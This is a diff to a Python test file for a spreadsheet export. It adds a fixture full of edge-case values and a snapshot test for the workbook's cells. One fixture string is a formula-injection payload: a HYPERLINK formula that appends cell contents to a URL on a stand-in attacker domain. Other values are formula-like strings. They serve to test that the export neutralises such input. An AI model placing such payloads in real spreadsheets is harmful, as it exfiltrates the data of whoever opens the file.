@@ -6,7 +6,11 @@ the database row by row, and nothing outside the period is in it."""
 from __future__ import annotations
 
 import io
+import json
+import os
 from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+from typing import Any
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -28,9 +32,11 @@ from db.models import (
     CaseSource,
     CaseState,
     CaseTab,
+    Employee,
     MonthlyResult,
     RequestKind,
     RequestState,
+    Role,
     ServiceRequest,
     WorkingGroup,
 )
@@ -501,3 +507,275 @@ async def test_text_that_looks_like_a_formula_or_holds_control_characters_stays_
     assert cells["=1+2"] == "s"
     # A character a workbook cannot hold is left out, not the whole export.
     assert cells["Клиентждал ответа"] == "s"
+
+
+# --- the same cells as before the streaming writer ----------------------------------------
+# A small data set with every value the sheets know (every state, action, kind, the empty and
+# the odd: a formula-like text, control characters, spaces at the edges, microseconds, an
+# unknown state or field), fixed ids and times. EXPECTED_CELLS holds what the workbook held
+# for it when it was written cell by cell with openpyxl (commit 7115c47's export.py): every
+# cell's value and type, number format, boldness and alignment; the sheets' names, column
+# widths and frozen header. Regenerate it only for an intended change of the file.
+EXPECTED_CELLS = Path(__file__).parent / "data" / "export_cells.json"
+NOVEMBER_START = datetime(2026, 10, 31, 21, 0, tzinfo=UTC)
+
+
+async def fill_every_kind_of_value(session: AsyncSession) -> None:
+    people = [
+        (101, "Ольга Смирнова", Role.CS),
+        (102, "Андрей Лидеров", Role.LEAD),
+        (103, "Мария Козлова", Role.MANAGER),
+        (104, "Павел <b>Новиков</b> & Co", Role.MANAGER),
+        (105, "  Иван Пробелов ", Role.MANAGER),
+    ]
+    for number, name, role in people:
+        session.add(Employee(id=number, full_name=name, role=role, telegram_id=90_000 + number))
+    session.add_all(
+        [WorkingGroup(id=11, name="Группа Юг"), WorkingGroup(id=12, name="Группа «Север» & Co")]
+    )
+    await session.flush()
+    summaries = [
+        "Не уточнил бюджет клиента",
+        "=1+2",
+        '=HYPERLINK("https://evil.example.com/?"&A1,"Открыть")',
+        "Клиент\x0bждал\x1f ответа\x01",
+        "  пробелы по краям  ",
+        "строка 1\nстрока 2\r\nстрока 3\tтаб",
+        "00123",
+        "Эмодзи 😀 и <теги> & «кавычки» \"двойные\" 'одинарные'",
+        "Длинный текст. " * 300,
+    ]
+    tabs, categories, sources = list(CaseTab), list(CaseCategory), list(CaseSource)
+    states = [*CaseState, "legacy"]
+    for index, state in enumerate(states):
+        number = 201 + index
+        created = FIRST_IN + timedelta(days=index * 3, hours=index, microseconds=index * 123_457)
+        full = index % 2 == 0
+        session.add(
+            Case(
+                id=number,
+                tab=tabs[index % len(tabs)],
+                category=categories[index % len(categories)],
+                source=sources[index % len(sources)],
+                manager_id=103 + index % 3,
+                group_id=11 + index % 2,
+                author_id=101 if full else None,
+                incident_date=date(2026, 9, 20) + timedelta(days=index),
+                summary=summaries[index % len(summaries)],
+                link="https://crm.example.com/deal?id=7&x=<1>" if full else None,
+                state=state,
+                repeated=index % 3 == 1,
+                accepted_at=created + timedelta(hours=5, seconds=30) if full else None,
+                briefing_at=created + timedelta(days=1, minutes=7) if full else None,
+                recheck_due_at=created + timedelta(days=14) if full else None,
+                analysis_process="Запись на показ" if full else None,
+                analysis_cause="" if full else None,
+                analysis_measures="=SUM(A1:A2)" if full else None,
+                measures_due=date(2026, 11, 5) if full else None,
+                closed_at=created + timedelta(days=20, microseconds=999_999) if full else None,
+                created_at=created,
+            )
+        )
+    session.add(
+        Case(
+            id=299,
+            tab=CaseTab.CASES,
+            category=CaseCategory.PROCESS,
+            source=CaseSource.CALL,
+            manager_id=103,
+            group_id=11,
+            incident_date=date(2026, 11, 1),
+            summary="Вне периода",
+            created_at=NOVEMBER_START,
+        )
+    )
+    await session.flush()
+    actions = [*export.ACTION_KEYS, "mystery"]
+    history_states: list[str | None] = [None, *CaseState, "legacy"]
+    for index, action in enumerate(actions):
+        session.add(
+            AuditEntry(
+                id=301 + index,
+                at=FIRST_IN + timedelta(days=index, seconds=index, microseconds=index * 1000),
+                actor_id=None if index % 4 == 0 else 101 + index % 5,
+                entity="case",
+                entity_id=201 + index % len(states),
+                action=action,
+                from_state=history_states[index % len(history_states)],
+                to_state=history_states[(index + 1) % len(history_states)],
+                comment=["", "разбор", "=2*3", "  с пробелом"][index % 4],
+            )
+        )
+    session.add_all(
+        [
+            AuditEntry(
+                id=350, at=FIRST_IN, actor_id=103, entity="appeal", entity_id=201, action="file"
+            ),
+            AuditEntry(id=351, at=NOVEMBER_START, entity="case", entity_id=299, action="register"),
+        ]
+    )
+    for index, state in enumerate(AppealState):
+        decided = state != AppealState.NEW
+        created = FIRST_IN + timedelta(days=index + 1, microseconds=index * 250_000)
+        session.add(
+            Appeal(
+                id=401 + index,
+                case_id=201 + index,
+                filer_id=103 + index % 3,
+                reason=["Бюджет был уточнён в чате", "=A1", "  "][index % 3],
+                state=state,
+                decided_by_id=101 if decided else None,
+                decision_comment="Частично: в чате был" if decided else None,
+                created_at=created,
+                decided_at=created + timedelta(days=2, hours=3) if decided else None,
+            )
+        )
+    fields: list[tuple[RequestKind, dict[str, Any]]] = [
+        (
+            RequestKind.FORWARDING,
+            {
+                "manager_name": "Мария Козлова",
+                "from_number": "1234",
+                "to_number": "+79990001122",
+                "date_from": "2026-10-20",
+                "date_to": "2026-10-22",
+                "comment": "",
+            },
+        ),
+        (
+            RequestKind.STAFFING,
+            {
+                "change": "new",
+                "full_name": "Пётр <Новый>",
+                "group_name": "Группа Юг",
+                "effective_date": "2026-10-12",
+                "attestation_date": "2026-11-12",
+                "comment": "=срочно",
+            },
+        ),
+        (
+            RequestKind.STAFFING,
+            {"change": "dismissal", "full_name": "Кто-то", "effective_date": "2026-10-30"},
+        ),
+        (
+            RequestKind.BADGE,
+            {"item": "audio", "quantity": 2, "place": "Шоурум «Юг»", "recipient": "Я"},
+        ),
+        (RequestKind.BADGE, {"item": "cover", "quantity": 1}),
+        (RequestKind.FORWARDING, {"unknown_field": "старые данные", "date_from": "не дата"}),
+    ]
+    request_states = list(RequestState)
+    for index, (kind, values) in enumerate(fields):
+        state = request_states[index % len(request_states)]
+        session.add(
+            ServiceRequest(
+                id=501 + index,
+                kind=kind,
+                requester_id=102 + index % 3,
+                group_id=11 + index % 2 if index % 3 else None,
+                fields=values,
+                state=state,
+                processor_id=101 if state != RequestState.NEW else None,
+                reject_reason="Нет доступа к АТС" if state == RequestState.REJECTED else None,
+                created_at=LAST_IN - timedelta(days=index, microseconds=index * 10),
+            )
+        )
+    results = [
+        (date(2026, 9, 1), 11, None, 70.0, 9),
+        (date(2026, 10, 1), 11, None, 81.25, 9),
+        (date(2026, 10, 1), 12, 103, 66.66666666666667, 4),
+        (date(2026, 10, 1), 12, 104, 0.1 + 0.2, 1),
+        (date(2026, 10, 1), 12, 105, 100, 0),
+        (date(2026, 11, 1), 11, None, 90, 3),
+    ]
+    for index, (month, group, manager, score, evaluations) in enumerate(results):
+        session.add(
+            MonthlyResult(
+                id=601 + index,
+                month=month,
+                group_id=group,
+                manager_id=manager,
+                score=score,
+                evaluations=evaluations,
+            )
+        )
+    await session.commit()
+
+
+def workbook_cells(data: bytes) -> dict[str, Any]:
+    """What a reader of the file sees: per sheet its widths, frozen pane and every cell that
+    holds a value or a style, with the value's type, number format, boldness and alignment."""
+    book = load_workbook(io.BytesIO(data))
+    sheets: dict[str, Any] = {}
+    for sheet in book.worksheets:
+        cells = []
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value is None and not cell.has_style:
+                    continue
+                value = cell.value
+                shown = value.isoformat() if isinstance(value, datetime) else value
+                cells.append(
+                    [
+                        cell.coordinate,
+                        type(value).__name__,
+                        shown,
+                        cell.data_type,
+                        cell.number_format,
+                        bool(cell.font.b),
+                        bool(cell.alignment.wrap_text),
+                        cell.alignment.vertical,
+                    ]
+                )
+        sheets[sheet.title] = {
+            "freeze_panes": sheet.freeze_panes,
+            "widths": {
+                letter: dimension.width
+                for letter, dimension in sorted(sheet.column_dimensions.items())
+                if dimension.customWidth
+            },
+            "max_row": sheet.max_row,
+            "max_column": sheet.max_column,
+            "cells": cells,
+        }
+    return {"sheetnames": book.sheetnames, "sheets": sheets}
+
+
+def cells_json(found: dict[str, Any]) -> str:
+    """`found` as JSON with one cell a line (a diff of the file reads cell by cell)."""
+    lines = ["{", f' "sheetnames": {json.dumps(found["sheetnames"], ensure_ascii=False)},']
+    lines.append(' "sheets": {')
+    for number, (title, sheet) in enumerate(found["sheets"].items()):
+        lines.append(f"  {json.dumps(title, ensure_ascii=False)}: {{")
+        for key in ("freeze_panes", "widths", "max_row", "max_column"):
+            lines.append(f"   {json.dumps(key)}: {json.dumps(sheet[key])},")
+        cells = [f"    {json.dumps(cell, ensure_ascii=False)}" for cell in sheet["cells"]]
+        lines.append('   "cells": [')
+        lines.append(",\n".join(cells))
+        lines.append("   ]")
+        lines.append("  }" + ("," if number < len(found["sheets"]) - 1 else ""))
+    lines.extend([" }", "}"])
+    return "\n".join(lines) + "\n"
+
+
+async def test_the_workbook_holds_the_same_cells_as_the_cell_by_cell_writer(
+    sessions: async_sessionmaker[AsyncSession], settings: Settings, texts: Texts
+) -> None:
+    async with sessions() as session:
+        await fill_every_kind_of_value(session)
+        session.add(Employee(id=100, full_name="Экспортёр", role=Role.CS, telegram_id=CS))
+        await session.commit()
+    made = await run_export(sessions, settings, texts, *OCTOBER)
+    found = workbook_cells(made.data)
+    if os.environ.get("EXPORT_CELLS_WRITE"):  # how EXPECTED_CELLS was made
+        EXPECTED_CELLS.write_text(cells_json(found))
+    expected = json.loads(EXPECTED_CELLS.read_text())
+    assert found["sheetnames"] == expected["sheetnames"]
+    for title, sheet in expected["sheets"].items():
+        for key in ("freeze_panes", "widths", "max_row", "max_column"):
+            assert found["sheets"][title][key] == sheet[key], (title, key)
+        for found_cell, expected_cell in zip(
+            found["sheets"][title]["cells"], sheet["cells"], strict=True
+        ):
+            assert found_cell == expected_cell, title
+    assert made.counts == {"cases": 9, "history": 11, "appeals": 4, "requests": 6, "results": 4}
